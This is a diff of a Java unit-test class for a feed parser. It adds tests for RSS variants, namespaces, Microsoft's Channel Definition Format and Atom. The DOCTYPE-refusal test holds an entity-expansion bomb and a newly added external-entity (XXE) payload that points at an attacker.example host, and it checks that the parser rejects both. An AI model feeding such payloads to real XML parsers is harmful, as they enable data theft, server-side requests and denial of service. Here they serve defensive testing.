@@ -25,7 +25,7 @@ class FeedReaderTest {
     }
 
     private List<FeedReader.Item> read(byte[] bytes) throws FeedReader.FeedProblem {
-        return reader.read(bytes, null);
+        return reader.read(bytes, null).items();
     }
 
     private List<FeedReader.Item> read(String xml) throws FeedReader.FeedProblem {
@@ -37,6 +37,11 @@ class FeedReaderTest {
         List<FeedReader.Item> items = read(rss("", "Caf&eacute;&nbsp;talks &mdash; &hellip; &amp; &lt;more&gt; &#233;&#x2014;"));
         assertThat(items).singleElement().extracting(FeedReader.Item::title)
                 .isEqualTo("Café\u00A0talks — … & <more> é—");
+    }
+
+    @Test
+    void readsAHexReferenceWithAnUpperCaseXAsHtmlDoes() throws Exception {
+        assertThat(read(rss("", "&#X41;&#X2014;&#x42;")).get(0).title()).isEqualTo("A—B");
     }
 
     @Test
@@ -77,7 +82,7 @@ class FeedReaderTest {
         assertThat(read(latin).get(0).title()).isEqualTo("Zürich");
         byte[] koi8 = rss("<?xml version=\"1.0\" encoding=\"koi8-r\"?>", "Москва").getBytes(Charset.forName("KOI8-R"));
         assertThat(read(koi8).get(0).title()).isEqualTo("Москва");
-        assertThat(reader.read(koi8, "application/rss+xml; charset=KOI8-R").get(0).title()).isEqualTo("Москва");
+        assertThat(reader.read(koi8, "application/rss+xml; charset=KOI8-R").items().get(0).title()).isEqualTo("Москва");
     }
 
     @Test
@@ -101,9 +106,99 @@ class FeedReaderTest {
     }
 
     @Test
-    void namesAnRssWithoutChannel() {
-        assertThatThrownBy(() -> read("<rss version=\"2.0\"><item><title>x</title></item></rss>"))
-                .isInstanceOf(FeedReader.FeedProblem.class).hasMessage("RSS without <channel>");
+    void readsTheItemsOfAnRssWithoutChannelAndNotesIt() throws Exception {
+        FeedReader.Feed feed = reader.read("<rss version=\"2.0\"><title>News</title><item><title>x</title></item><item><title>y</title></item></rss>"
+                .getBytes(StandardCharsets.UTF_8), null);
+        assertThat(feed.items()).extracting(FeedReader.Item::title).containsExactly("x", "y");
+        assertThat(feed.note()).contains("RSS without <channel>");
+    }
+
+    @Test
+    void anEmptyRssWithoutChannelHasNoItemsAndSaysWhy() throws Exception {
+        for (String xml : List.of("<rss>\n</rss>", "<rss version=\"0.91\"/>",
+                "<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" xmlns=\"http://purl.org/rss/1.0/\"></rdf:RDF>",
+                "<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" xmlns=\"http://my.netscape.com/rdf/simple/0.9/\"/>")) {
+            FeedReader.Feed feed = reader.read(xml.getBytes(StandardCharsets.UTF_8), null);
+            assertThat(feed.items()).as(xml).isEmpty();
+            assertThat(feed.note()).as(xml).contains("RSS without <channel>");
+        }
+        assertThat(reader.read(rss("", "x").getBytes(StandardCharsets.UTF_8), null).note()).isEmpty();
+    }
+
+    @Test
+    void readsTheItemsOfAnRss10WithoutChannel() throws Exception {
+        String xml = "<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" xmlns=\"http://purl.org/rss/1.0/\">"
+                + "<item rdf:about=\"https://news.example/1\"><title>One</title><link>https://news.example/1</link></item></rdf:RDF>";
+        assertThat(read(xml)).singleElement().extracting(FeedReader.Item::title, FeedReader.Item::link)
+                .containsExactly("One", "https://news.example/1");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"http://blogs.law.harvard.edu/tech/rss", "http://backend.userland.com/rss2.1", "urn:any"})
+    void readsRssInAnyDefaultNamespace(String namespace) throws Exception {
+        String xml = "<rss xmlns=\"" + namespace + "\" version=\"2.0\"><channel><title>T</title>"
+                + "<item><title>One</title><link>https://news.example/1</link></item></channel></rss>";
+        assertThat(read(xml)).singleElement().extracting(FeedReader.Item::title, FeedReader.Item::link)
+                .containsExactly("One", "https://news.example/1");
+    }
+
+    @Test
+    void readsRssWithAPrefixedRootAndKeepsOtherNamespacesApart() throws Exception {
+        String xml = "<x:rss version=\"2.0\" xmlns:x=\"urn:made-up:rss\" xmlns:other=\"urn:made-up:other\"><x:channel>"
+                + "<x:title>T</x:title><x:item><x:title>One</x:title><other:description>not this</other:description>"
+                + "<x:description>the description</x:description><x:link>https://news.example/1</x:link></x:item>"
+                + "</x:channel></x:rss>";
+        assertThat(FeedReader.looksLikeFeed(xml.getBytes(StandardCharsets.UTF_8))).isTrue();
+        assertThat(read(xml)).singleElement().satisfies(item -> {
+            assertThat(item.title()).isEqualTo("One");
+            assertThat(item.summaryHtml()).isEqualTo("the description");
+            assertThat(item.link()).isEqualTo("https://news.example/1");
+        });
+    }
+
+    @Test
+    void readsAPrefixedRssWithoutVersionAndOneWhoseChannelDeclaresAnotherDefaultNamespace() throws Exception {
+        String xml = "<x:rss xmlns:x=\"urn:made-up:rss\"><x:channel xmlns=\"urn:made-up:other\"><x:title>T</x:title>"
+                + "<x:item><title>not RSS's</title><x:title>One</x:title></x:item></x:channel></x:rss>";
+        assertThat(read(xml)).singleElement().extracting(FeedReader.Item::title).isEqualTo("One");
+    }
+
+    @Test
+    void readsAnRssChannelThatLostItsRssRoot() throws Exception {
+        String xml = "<channel><title>T</title><item><title>One</title><link>https://news.example/1</link>"
+                + "<description>Text</description><pubDate>Tue, 02 Jan 2024 10:00:00 GMT</pubDate></item></channel>";
+        assertThat(FeedReader.looksLikeFeed(xml.getBytes(StandardCharsets.UTF_8))).isTrue();
+        assertThat(read(xml)).singleElement().satisfies(item -> {
+            assertThat(item.title()).isEqualTo("One");
+            assertThat(item.link()).isEqualTo("https://news.example/1");
+            assertThat(item.summaryHtml()).isEqualTo("Text");
+            assertThat(item.publishedAt()).isEqualTo("2024-01-02T10:00:00Z");
+        });
+    }
+
+    @Test
+    void readsMicrosoftsChannelDefinitionFormat() throws Exception {
+        String cdf = "<CHANNEL HREF=\"https://news.example/\" BASE=\"https://news.example/stories/\">\n"
+                + "  <TITLE>Example</TITLE><ABSTRACT>All the news</ABSTRACT>\n"
+                + "  <ITEM HREF=\"port.html\" LASTMOD=\"2004-04-06T23:05:43-05:00\"><TITLE>Port opens</TITLE>"
+                + "<ABSTRACT>The port opened.</ABSTRACT></ITEM>\n"
+                + "  <CHANNEL><ITEM HREF=\"https://other.example/2\"><TITLE>In a sub-channel</TITLE></ITEM></CHANNEL>\n"
+                + "</CHANNEL>";
+        assertThat(FeedReader.looksLikeFeed(cdf.getBytes(StandardCharsets.UTF_8))).isTrue();
+        List<FeedReader.Item> items = read(cdf);
+        assertThat(items).extracting(FeedReader.Item::title, FeedReader.Item::link, FeedReader.Item::summaryHtml)
+                .containsExactly(org.assertj.core.groups.Tuple.tuple("Port opens", "https://news.example/stories/port.html", "The port opened."),
+                        org.assertj.core.groups.Tuple.tuple("In a sub-channel", "https://other.example/2", null));
+        assertThat(items.get(0).publishedAt()).isEqualTo("2004-04-07T04:05:43Z");
+    }
+
+    @Test
+    void readsTheItemsOfAnAtomFeedAsEntries() throws Exception {
+        String atom = "<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>T</title>"
+                + "<entry><title>An entry</title><id>urn:1</id></entry><item><title>An item</title><id>urn:2</id></item></feed>";
+        assertThat(read(atom)).extracting(FeedReader.Item::title).containsExactly("An entry", "An item");
+        String atom03 = "<feed version=\"0.3\" xmlns=\"http://purl.org/atom/ns#\"><item><title>Old</title></item></feed>";
+        assertThat(read(atom03)).extracting(FeedReader.Item::title).containsExactly("Old");
     }
 
     @Test
@@ -112,6 +207,10 @@ class FeedReaderTest {
         assertThatThrownBy(() -> read(xml)).isInstanceOf(FeedReader.FeedProblem.class).hasMessage(FeedText.DOCTYPE_REFUSED);
         String bomb = "<!DOCTYPE rss [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]>" + rss("", "&b;");
         assertThatThrownBy(() -> read(bomb)).isInstanceOf(FeedReader.FeedProblem.class).hasMessage(FeedText.DOCTYPE_REFUSED);
+        String rdf = "<!DOCTYPE rdf:RDF [<!ENTITY % lat1 PUBLIC \"-//W3C//ENTITIES Latin 1//EN\" \"http://attacker.example/x.ent\">%lat1;]>"
+                + "<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" xmlns=\"http://purl.org/rss/1.0/\"/>";
+        assertThat(FeedReader.looksLikeFeed(rdf.getBytes(StandardCharsets.UTF_8))).as("refused as a feed, not passed over").isTrue();
+        assertThatThrownBy(() -> read(rdf)).isInstanceOf(FeedReader.FeedProblem.class).hasMessage(FeedText.DOCTYPE_REFUSED);
     }
 
     @Test
